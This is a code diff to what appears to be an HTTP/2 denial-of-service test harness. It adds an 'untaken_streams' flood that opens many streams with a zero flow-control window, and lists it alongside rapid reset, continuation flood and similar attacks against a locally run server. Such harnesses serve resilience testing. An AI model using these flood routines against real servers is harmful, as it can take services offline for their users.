@@ -12,6 +12,7 @@ from .wire import (CANCEL, CONTINUATION, DATA, EMPTY, END_HEADERS, HEADERS, HEAL
 
 BLOCK = request_block("GetMetricSpec")
 STREAM_BLOCK = request_block("StreamIsActive")
+SPEC_STREAM_BLOCK = request_block("StreamMetricSpec")
 WATCH_BLOCK = request_block("Watch", HEALTH)
 ELSEWHERE = "127.0.0.2"  # an attacker who takes what an address may have takes it from those of that address
 FULL = 16384  # as long as a frame may be
@@ -147,6 +148,13 @@ def zero_windows(port, until):
     flood(port, until, lambda: in_chunks(calls), PREFACE + settings(INITIAL_WINDOW_SIZE=0))
 
 
+def untaken_streams(port, until):
+    """Streams without end, each over with its second message, whose answers may not be sent."""
+    flood(port, until, lambda: in_chunks(frame(HEADERS, END_HEADERS, stream, SPEC_STREAM_BLOCK)
+                                         + frame(DATA, 0, stream, MESSAGE * 2) for stream in streams()),
+          PREFACE + settings(INITIAL_WINDOW_SIZE=0), source=ELSEWHERE)
+
+
 def never_reads(port, until):
     """Calls without end, whose answers may all be sent, and are not read."""
     flood(port, until, lambda: in_chunks(request(stream, BLOCK) for stream in streams()),
@@ -185,7 +193,8 @@ DESCRIPTORS = 64  # of the server, in the last one
 
 ATTACKS = [rapid_reset, continuation_flood, empty_continuation_flood, settings_flood, ping_flood, unread_ping_flood,
            indexed_header_bomb, one_huge_header, empty_data_flood, priority_flood, one_byte_windows, zero_windows,
-           never_reads, half_messages, endless_streams, silent_connections, half_a_frame, descriptors_used_up]
+           untaken_streams, never_reads, half_messages, endless_streams, silent_connections, half_a_frame,
+           descriptors_used_up]
 
 
 def title(attack):
